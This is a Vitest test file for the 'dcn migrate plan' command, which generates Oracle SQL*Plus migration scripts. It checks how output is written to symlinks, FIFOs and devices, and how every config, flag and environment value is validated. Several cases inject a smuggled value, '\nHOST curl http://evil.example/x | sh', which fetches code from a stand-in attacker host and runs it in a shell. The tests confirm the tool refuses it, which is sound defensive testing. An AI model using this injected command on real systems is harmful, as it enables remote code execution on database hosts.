import { execFileSync, spawn, spawnSync } from 'node:child_process';
import {
  linkSync,
  lstatSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { runCli } from '../../support/cli.js';

const FIXTURES = join(import.meta.dirname, '..', '..', 'fixtures', 'basic');
const WITH_FIXTURES = ['--migrations', FIXTURES, '--define', 'app_user=OE'];

function tempDir(): string {
  return mkdtempSync(join(tmpdir(), 'dcn-plan-out-'));
}

describe('dcn migrate plan --out and what is at the path', () => {
  it('writes through a symlink: the link stays, its target gets the plan', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'real.sql'), '-- dcn migrate plan: 1 migration(s) from old\n');
    symlinkSync('real.sql', join(cwd, 'plan.sql'));
    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', 'plan.sql'], { cwd });
    expect(r.code, r.stderr).toBe(0);
    expect(lstatSync(join(cwd, 'plan.sql')).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(cwd, 'plan.sql'))).toBe('real.sql');
    expect(readFileSync(join(cwd, 'real.sql'), 'utf8')).toMatch(/PROMPT dcn: 3 migration\(s\) applied\n$/);
  });

  it('writes through a chain of links, and creates the target of a dangling one', async () => {
    const cwd = tempDir();
    symlinkSync(join(cwd, 'sub', 'target.sql'), join(cwd, 'b.sql'));
    symlinkSync('b.sql', join(cwd, 'a.sql'));
    execFileSync('mkdir', [join(cwd, 'sub')]);
    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', 'a.sql'], { cwd });
    expect(r.code, r.stderr).toBe(0);
    expect(lstatSync(join(cwd, 'a.sql')).isSymbolicLink()).toBe(true);
    expect(lstatSync(join(cwd, 'b.sql')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(cwd, 'sub', 'target.sql'), 'utf8')).toMatch(/^-- dcn migrate plan: 3 migration/);
  });

  it('writes into a FIFO directly: its reader gets the whole plan and the FIFO stays', async () => {
    const cwd = tempDir();
    const fifo = join(cwd, 'plan.fifo');
    execFileSync('mkfifo', [fifo]);
    const reader = spawn('cat', [fifo]);
    let read = '';
    reader.stdout.on('data', (c: Buffer) => (read += c.toString()));
    const closed = new Promise<number | null>((done) => reader.on('close', done));
    try {
      const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', fifo], { cwd });
      expect(r.code, r.stderr).toBe(0);
      expect(await closed).toBe(0);
    } finally {
      // a writer that renamed over the FIFO leaves cat waiting for one: it is ours to stop
      reader.kill();
    }
    expect(read).toMatch(/^-- dcn migrate plan: 3 migration[\s\S]*PROMPT dcn: 3 migration\(s\) applied\n$/);
    expect(lstatSync(fifo).isFIFO()).toBe(true);
  });

  it('writes into a character device directly and never renames over it', async () => {
    // As root, a null device made for the test (the old code renamed over the path: never try
    // that on the system's /dev/null); otherwise /dev/null itself, which only root could replace.
    const cwd = tempDir();
    const device = process.getuid?.() === 0 ? join(cwd, 'null') : '/dev/null';
    if (device !== '/dev/null') execFileSync('mknod', ['-m', '666', device, 'c', '1', '3']);
    const before = lstatSync(device);
    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', device], { cwd });
    expect(r.code, r.stderr).toBe(0);
    const after = lstatSync(device);
    expect(after.isCharacterDevice()).toBe(true);
    expect([after.ino, after.rdev]).toEqual([before.ino, before.rdev]);
  });

  it('writes through a link to a character device (as /dev/stdout is) without replacing the link', async () => {
    const cwd = tempDir();
    symlinkSync('/dev/null', join(cwd, 'stdout'));
    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', 'stdout'], { cwd });
    expect(r.code, r.stderr).toBe(0);
    expect(lstatSync(join(cwd, 'stdout')).isSymbolicLink()).toBe(true);
    expect(statSync(join(cwd, 'stdout')).isCharacterDevice()).toBe(true);
  });

  it('writes into its own stdout when that is a pipe, a socket or a file opened for append (/dev/stdout, /dev/fd/1)', () => {
    // a real process: its stdout is what the shell made it (node's own child stdio is a socket pair)
    const bin = join(import.meta.dirname, '..', '..', '..', 'bin', 'dcn.js');
    const dcn = `"${process.execPath}" "${bin}" migrate plan ${WITH_FIXTURES.join(' ')} --out`;
    const plan = /^-- dcn migrate plan: 3 migration[\s\S]*PROMPT dcn: 3 migration\(s\) applied\n$/;
    for (const [shell, label] of [
      [`${dcn} /dev/stdout | cat`, 'pipe'],
      [`${dcn} /dev/fd/1 | cat`, 'pipe'],
      [`${dcn} /dev/stdout`, 'socket'],
    ]) {
      const r = spawnSync('sh', ['-c', shell!], { cwd: tempDir(), encoding: 'utf8' });
      expect(r.status, `${label}: ${r.stderr}`).toBe(0);
      expect(r.stdout, shell).toMatch(plan);
      expect(r.stderr, shell).toMatch(/Wrote .*: 3 migration\(s\)/);
    }
    // `>> app.sql`: the plan goes after what the file held; the file is not renamed over
    for (const path of ['/dev/stdout', '/proc/self/fd/1']) {
      const cwd = tempDir();
      writeFileSync(join(cwd, 'app.sql'), '-- kept\n');
      const before = statSync(join(cwd, 'app.sql')).ino;
      const r = spawnSync('sh', ['-c', `${dcn} ${path} >> app.sql`], { cwd, encoding: 'utf8' });
      expect(r.status, r.stderr).toBe(0);
      expect(statSync(join(cwd, 'app.sql')).ino).toBe(before);
      const text = readFileSync(join(cwd, 'app.sql'), 'utf8');
      expect(text.startsWith('-- kept\n-- dcn migrate plan: 3 migration'), text.slice(0, 200)).toBe(true);
      expect(text).toMatch(/PROMPT dcn: 3 migration\(s\) applied\n$/);
      expect(execFileSync('ls', ['-A', cwd]).toString().trim()).toBe('app.sql');
    }
  });

  it('replaces only a file it can prove is a plan dcn wrote, and keeps its mode', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'notes.txt'), 'notes\n', { mode: 0o640 });
    linkSync(join(cwd, 'notes.txt'), join(cwd, 'hard.txt'));
    symlinkSync('notes.txt', join(cwd, 'link.sql'));
    for (const out of ['notes.txt', 'link.sql']) {
      const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', out], { cwd });
      expect(r.code, out).toBe(2);
      expect(r.stderr).toMatch(
        /cannot write .*: it holds something other than a plan dcn wrote \(its first line is not "-- dcn migrate plan: …"\)[^\n]*\n {2}hint: remove that file if it is yours to lose, or choose another path for the plan/,
      );
    }
    expect(readFileSync(join(cwd, 'notes.txt'), 'utf8')).toBe('notes\n');
    const notes = statSync(join(cwd, 'notes.txt'));
    expect([notes.mode & 0o777, notes.nlink]).toEqual([0o640, 2]);
    expect(execFileSync('ls', ['-A', cwd]).toString().trim().split('\n').sort()).toEqual([
      'hard.txt',
      'link.sql',
      'notes.txt',
    ]);
    // an earlier plan is replaced and keeps its mode; an empty file is taken too
    writeFileSync(join(cwd, 'plan.sql'), '-- dcn migrate plan: 1 migration(s) from old\nSET DEFINE OFF\n', {
      mode: 0o640,
    });
    writeFileSync(join(cwd, 'empty.sql'), '');
    for (const out of ['plan.sql', 'empty.sql']) {
      const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', out], { cwd });
      expect(r.code, r.stderr).toBe(0);
      expect(readFileSync(join(cwd, out), 'utf8')).toMatch(/^-- dcn migrate plan: 3 migration/);
    }
    expect(statSync(join(cwd, 'plan.sql')).mode & 0o777).toBe(0o640);
    // one that holds the token is 0600 whatever the plan it replaces was
    const r = await runCli(['migrate', 'plan', '--out', 'plan.sql'], {
      cwd,
      env: { DCN_CALLBACK_TOKEN: 'b7e1c0ffee0123456789abcdef' },
    });
    expect(r.code, r.stderr).toBe(0);
    expect(statSync(join(cwd, 'plan.sql')).mode & 0o777).toBe(0o600);
  });

  it('never removes a file at its temporary name that it did not create', async () => {
    const cwd = tempDir();
    const random = vi.spyOn(Math, 'random').mockReturnValue(0.5);
    try {
      const theirs = join(cwd, `.plan.sql.${(0.5).toString(36).slice(2)}.tmp`);
      writeFileSync(theirs, "not dcn's\n");
      const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', 'plan.sql'], { cwd });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/EEXIST/);
      expect(readFileSync(theirs, 'utf8')).toBe("not dcn's\n");
    } finally {
      random.mockRestore();
    }
  });

  it('refuses a directory and leaves it as it was', async () => {
    const cwd = tempDir();
    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', cwd]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/is a directory/);
    expect(statSync(cwd).isDirectory()).toBe(true);
  });

  it('leaves a regular file whole when the plan cannot be made, and no temporary file beside it', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'plan.sql'), 'old plan\n');
    writeFileSync(join(cwd, 'V1__a.sql'), 'SELECT &undefined_var FROM dual;\n');
    const r = await runCli(['migrate', 'plan', '--migrations', cwd, '--out', 'plan.sql'], { cwd });
    expect(r.code).toBe(2);
    expect(readFileSync(join(cwd, 'plan.sql'), 'utf8')).toBe('old plan\n');
    expect(execFileSync('ls', [cwd]).toString().trim().split('\n').sort()).toEqual(['V1__a.sql', 'plan.sql']);
  });
});

const HOSTILE = '\nHOST curl http://evil.example/x | sh';

describe('dcn migrate plan: every value written into the script is checked for its place', () => {
  it.each([
    [
      'connect, from dcn.config.json',
      [],
      {},
      { connect: `db:1521/X${HOSTILE}` },
      /connect setting \("connect" in the config file\) holds a blank or a control character/,
    ],
    [
      'connect, from the environment',
      [],
      { DCN_CONNECT: `db:1521/X${HOSTILE}` },
      undefined,
      /connect setting \(DCN_CONNECT\)/,
    ],
    ['connect, a blank', ['--connect', 'db:1521/X HOST'], {}, undefined, /connect setting \(--connect\) holds a blank/],
    [
      'adminUser, from a flag',
      ['--admin-user', 'sys\nHOST curl evil.example | sh'],
      {},
      undefined,
      /adminUser setting \(--admin-user\) holds a blank or a control character/,
    ],
    [
      'adminUser, from dcn.config.json',
      [],
      {},
      { adminUser: `sys${HOSTILE}` },
      /adminUser setting \("adminUser" in the config file\)/,
    ],
    [
      'adminUser, a quote',
      ['--admin-user', "sys'x"],
      {},
      undefined,
      /adminUser setting cannot be written into the plan's CONNECT lines/,
    ],
    ['adminUser, an ampersand', ['--admin-user', 'sys&x'], {}, undefined, /adminUser setting cannot be written/],
    [
      'connect, an ampersand (Easy Connect Plus)',
      ['--connect', 'tcps://db:2484/svc?a=1&wallet_location=/w'],
      {},
      undefined,
      /connect setting cannot be written into the plan's CONNECT lines.*'&'/,
    ],
    [
      'connect, a descriptor over lines',
      [],
      {},
      { connect: '(DESCRIPTION=\n  (ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521))\n  (CONNECT_DATA=(SERVICE_NAME=X)))' },
      /connect setting cannot be written into the plan's CONNECT lines: SQL\*Plus splits CONNECT at a blank/,
    ],
    [
      'connect, ending with the continuation character',
      ['--connect', 'db:1521/svc-'],
      {},
      undefined,
      /connect setting cannot be written into the plan's CONNECT lines: it ends with '-'/,
    ],
    ['schema', ['--schema', `OE${HOSTILE}`], {}, undefined, /schema: .* is not a plain Oracle identifier/],
    [
      'ordersTable',
      ['--orders-table', `ORDERS${HOSTILE}`],
      {},
      undefined,
      /ordersTable: .* is not a plain Oracle identifier/,
    ],
    [
      'orderItemsTable',
      ['--order-items-table', "ITEMS'"],
      {},
      undefined,
      /orderItemsTable: .* is not a plain Oracle identifier/,
    ],
    [
      'historyTable',
      ['--history-table', `H${HOSTILE}`],
      {},
      undefined,
      /history table .* is not a plain Oracle identifier/,
    ],
    [
      'callbackUrl',
      ['--callback-url', `http://app/x${HOSTILE}`],
      {},
      undefined,
      /callbackUrl: .* must be an http\(s\) URL without quotes, spaces or control characters/,
    ],
    [
      'callbackToken, from the environment',
      [],
      { DCN_CALLBACK_TOKEN: `t${HOSTILE}` },
      undefined,
      /callbackToken: must be at most 128 letters/,
    ],
    ['httpTimeout', ['--http-timeout', `5${HOSTILE}`], {}, undefined, /httpTimeout/],
    [
      'a substitution value, --define',
      ['--define', `app_user=OE${HOSTILE}`],
      {},
      undefined,
      /--define app_user: a substitution value cannot span lines/,
    ],
    [
      'a substitution value with a control character',
      ['--define', 'app_user=OE\u000bx'],
      {},
      undefined,
      /--define app_user: a substitution value cannot hold a control character/,
    ],
    [
      'a substitution value, dcn.config.json',
      [],
      {},
      { variables: { app_user: `OE\u0000${HOSTILE}` } },
      /variable "app_user": a substitution value cannot span lines/,
    ],
  ])('%s: refused, exit 2, nothing written', async (_name, args, env, file, message) => {
    const cwd = tempDir();
    if (file !== undefined) writeFileSync(join(cwd, 'dcn.config.json'), JSON.stringify(file));
    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, ...args], { cwd, env });
    expect(r.stderr).toMatch(message);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    // the message shows no second line the value brought
    expect(r.stderr.split('\n').filter((line) => /^\s*HOST/i.test(line))).toEqual([]);
  });

  it("reads --admin-user 'SYS as sysdba' as the user SYS connecting AS SYSDBA", async () => {
    const r = await runCli([
      'migrate',
      'plan',
      ...WITH_FIXTURES,
      '--connect',
      'db/FREEPDB1',
      '--admin-user',
      'SYS as sysdba',
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('CONNECT SYS@db/FREEPDB1 AS SYSDBA\n');
    const same = await runCli([
      'migrate',
      'plan',
      ...WITH_FIXTURES,
      '--admin-user',
      'sys AS SYSDBA',
      '--admin-privilege',
      'sysdba',
    ]);
    expect(same.stdout).toContain('CONNECT sys@&dcn_connect AS SYSDBA\n');
    const clash = await runCli([
      'migrate',
      'plan',
      ...WITH_FIXTURES,
      '--admin-user',
      'SYS as sysdba',
      '--admin-privilege',
      'sysoper',
    ]);
    expect(clash.code).toBe(2);
    expect(clash.stderr).toMatch(
      /says AS SYSDBA while the admin privilege setting says sysoper\n {2}hint: set the user alone \(e\.g\. SYS\)/,
    );
  });

  it('writes the migrations directory into the header comment without its control characters', async () => {
    const dir = join(tempDir(), `m${HOSTILE}&x`);
    execFileSync('mkdir', ['-p', dir]);
    execFileSync('cp', ['-r', `${FIXTURES}/.`, dir]);
    const r = await runCli(['migrate', 'plan', '--migrations', dir, '--define', 'app_user=OE']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.split('\n')[0]).toMatch(
      /^-- dcn migrate plan: 3 migration\(s\) from .*m\\u000aHOST curl http:\/+evil\.example\/x \| sh\\u0026x$/,
    );
    expect(r.stdout.split('\n').filter((line) => /^\s*HOST/i.test(line))).toEqual([]);
  });

  it('never shows the password of a refused callback URL', async () => {
    for (const args of [
      ['--callback-url', 'http://user:s3cret@app:8080/drop'],
      ['--callback-url', 'http://user:s3cret@app:8080/drop x'],
      ['--define', 'callback_url=http://u:s3cret@app/x'],
    ]) {
      const r = await runCli(['migrate', 'plan', ...args]);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(/callback_?[uU]rl/);
      expect(r.stderr).not.toContain('s3cret');
    }
    const fromEnv = await runCli(['migrate', 'plan', '--json'], {
      env: { DCN_CALLBACK_URL: 'https://admin:s3cret@app/drop' },
    });
    expect(fromEnv.code).toBe(2);
    expect(fromEnv.stderr + fromEnv.stdout).not.toContain('s3cret');
    expect(fromEnv.stderr).toMatch(/'https:\/\/admin:\*\*\*@app\/drop' must not hold a user, password/);
  });

  it('writes a plan that holds the callback token with mode 0600, and says so on stderr', async () => {
    const cwd = tempDir();
    const token = 'b7e1c0ffee0123456789abcdef';
    const r = await runCli(['migrate', 'plan', '--out', 'plan.sql'], { cwd, env: { DCN_CALLBACK_TOKEN: token } });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(cwd, 'plan.sql'), 'utf8')).toContain(token);
    expect(statSync(join(cwd, 'plan.sql')).mode & 0o777).toBe(0o600);
    expect(r.stderr).toMatch(/plan\.sql holds the callback token \(X-Dcn-Token\): written with mode 0600/);
    expect(r.stderr).not.toContain(token);
    const toStdout = await runCli(['migrate', 'plan'], { env: { DCN_CALLBACK_TOKEN: token } });
    expect(toStdout.stderr).toMatch(/the plan holds the callback token/);
    const asJson = await runCli(['migrate', 'plan', '--json'], { env: { DCN_CALLBACK_TOKEN: token } });
    expect(asJson.stdout).toContain(token);
    expect(asJson.stderr).toMatch(
      /the plan holds the callback token \(X-Dcn-Token\): keep it out of logs and shared files/,
    );
    const without = await runCli(['migrate', 'plan', '--out', 'plan2.sql'], { cwd });
    expect(without.stderr).toBe('');
    expect(statSync(join(cwd, 'plan2.sql')).mode & 0o077).not.toBe(0);
  });
});

describe('dcn migrate plan: a statement SQL*Plus would read otherwise', () => {
  it('is refused with file:line, exit 2, while --json still lists it as dcn migrate runs it', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'V1__x.sql'), "SELECT 1 FROM dual;\nINSERT INTO t VALUES ('a\n/\nb');\n");
    const r = await runCli(['migrate', 'plan', '--migrations', dir]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(
      /^dcn: error: V1__x\.sql:3: a line holding only '\/' inside the statement \(in a literal or a comment\): SQL\*Plus would run the statement up to there\n {2}hint: move the '\/' onto a line with other text/,
    );
    const json = await runCli(['migrate', 'plan', '--migrations', dir, '--json']);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout).migrations[0].statements[1].sql).toBe("INSERT INTO t VALUES ('a\n/\nb')");
  });
});
